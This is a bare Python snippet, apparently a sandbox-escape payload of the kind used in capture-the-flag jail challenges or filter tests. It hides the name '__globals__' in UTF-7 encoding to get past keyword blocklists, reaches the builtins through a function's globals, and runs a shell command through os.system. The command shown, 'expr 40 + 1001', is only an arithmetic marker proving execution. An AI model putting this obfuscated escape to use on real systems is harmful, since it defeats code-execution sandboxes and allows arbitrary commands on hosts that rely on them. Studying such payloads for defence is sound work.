def f(): pass
z=getattr(f,"+AF8AXwBnAGwAbwBiAGEAbABzAF8AXw-".encode().decode("utf-7"))
z["__builtins__"].exec("import os;os.system('expr 40 + 1001')")
